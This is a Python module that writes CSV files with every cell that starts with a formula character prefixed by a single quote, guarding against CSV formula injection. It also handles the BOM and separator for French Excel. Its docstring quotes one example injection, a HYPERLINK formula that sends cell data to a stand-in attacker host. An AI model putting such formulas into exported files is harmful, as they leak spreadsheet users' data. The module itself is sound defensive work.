"""Every CSV file Palabre writes goes through ``writer``: no cell opens as a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that begins with ``=``, ``+``,
``-`` or ``@`` as a formula, also after a tab, a carriage return or spaces: a title such as
``=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")`` in a downloaded file would
send the reader's data elsewhere. Following OWASP's advice on CSV injection, such a text
cell gets a single quote in front (``'=HYPERLINK(…``), which spreadsheets show as text;
``-3`` written as text becomes ``'-3`` too (a number the code writes, an id, is left as it
is). Every field is quoted, so a separator inside a text (``;`` for a French spreadsheet)
never starts a cell of its own.

For spreadsheets, a file is written with ``SPREADSHEET``'s separator after ``BOM``: a
French-language Excel opens a ``.csv`` as the Windows code page, not UTF-8, unless the file
begins with the byte order mark, and splits it on ``;`` (the list separator where the
decimal mark is a comma), so a comma-separated file lands in one column.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# The first characters that make a formula, with their full-width forms, which some
# spreadsheets read the same; a tab and a carriage return as OWASP lists them.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")

BOM = "\ufeff"  # UTF-8's byte order mark, as the first character of a file
SPREADSHEET = ";"  # the separator of the files offered for spreadsheets


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs: a text that begins with a formula
    character, or with blanks before one, gets a leading single quote."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip()[:1] in FORMULA_STARTS:
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer``'s ``writerow``/``writerows``, each cell passed through ``neutralise``
    and every field quoted."""

    def __init__(self, stream: _Writable, delimiter: str = ",") -> None:
        self._writer = csv.writer(stream, delimiter=delimiter, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable, delimiter: str = ",") -> SafeWriter:
    """A CSV writer on ``stream`` whose cells never open as formulas."""
    return SafeWriter(stream, delimiter)
